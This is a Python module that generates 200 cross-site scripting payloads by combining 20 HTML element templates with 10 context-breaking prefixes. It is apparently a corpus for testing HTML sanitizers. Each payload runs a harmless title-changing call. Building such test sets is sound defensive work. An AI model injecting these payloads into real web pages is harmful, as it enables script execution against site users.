"""Texts that would run if a page took them for markup: every context that a page has, in many spellings."""

from __future__ import annotations

from itertools import product

CALL = "document.title='owned'"
_ELEMENTS = (
    "<script>{c}</script>", "<img src=x onerror={c}>", "<svg onload={c}>", "<svg><script>{c}</script></svg>", "<body onload={c}>",
    "<iframe srcdoc=\"<script>parent.{c}</script>\">", "<a href=javascript:{c}>x</a>", "<details open ontoggle={c}>",
    "<input autofocus onfocus={c}>", "<video><source onerror={c}>", "<math><mtext></mtext><mglyph><style><img src=x onerror={c}>",
    "<style>@import'javascript:{c}'</style>", "<link rel=stylesheet href=javascript:{c}>",
    "<meta http-equiv=refresh content='0;javascript:{c}'>",
    "<object data=javascript:{c}>", "<embed src=javascript:{c}>", "<form action=javascript:{c}><button autofocus>x",
    "<marquee onstart={c}>",
    "<set attributeName=href to=javascript:{c}>", "<animate onbegin={c}>",
)  # fmt: skip
_BREAKS = (
    "",
    "\"'>",
    "</title>",
    "</style></script>",
    "-->",
    "]]>",
    "</text></svg>",
    "`;${",
    "{{7*7}}{% raw %}",
    "\u2028</q></bdi>",
)

PAYLOADS: tuple[str, ...] = tuple(before + element.format(c=CALL) for element, before in product(_ELEMENTS, _BREAKS))
"""Two hundred of them."""
